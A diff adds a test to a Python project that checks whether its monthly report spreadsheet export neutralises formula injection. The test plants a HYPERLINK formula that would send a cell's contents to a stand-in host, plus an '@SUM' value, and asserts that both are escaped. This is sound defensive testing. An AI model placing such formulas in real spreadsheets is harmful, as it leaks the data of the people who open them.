@@ -73,3 +73,29 @@ def test_json_round_trip(report):
     concerns = document["summary"]["abuse_concerns"]
     assert all(set(c) == {"file_number", "date", "action_note"} for c in concerns)
     assert "سینا یزدانی" in monthly_report_json(report).decode("utf-8")
+
+
+def test_no_cell_of_the_monthly_workbook_is_a_formula():
+    import io
+
+    from openpyxl import load_workbook
+
+    from app.printing.data import ServiceLine
+    from app.printing.export import monthly_report_xlsx
+    from app.printing.samples import sample_monthly_report
+    import dataclasses
+    import datetime as dt
+    data = sample_monthly_report(2)
+    row = data.clients[0]
+    planted = ServiceLine(date=dt.date(2026, 11, 1), kind_label="مشاوره", mode_label="تلفنی", minutes=10,
+                          summary_text='=HYPERLINK("http://x.example/?"&B2,"باز کنید")')
+    row = dataclasses.replace(row, full_name="@SUM(1+1)", services=[planted])
+    data = dataclasses.replace(data, clients=[row] + data.clients[1:])
+    out = io.BytesIO()
+    monthly_report_xlsx(data, out)
+    book = load_workbook(io.BytesIO(out.getvalue()))
+    values = [c.value for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
+    texts = [v for v in values if isinstance(v, str)]
+    assert "'=HYPERLINK(\"http://x.example/?\"&B2,\"باز کنید\")" in texts and "'@SUM(1+1)" in texts
+    assert not any(v.startswith(("=", "+", "@")) for v in texts)
+    assert all(c.data_type != "f" for sheet in book.worksheets for r in sheet.iter_rows() for c in r)
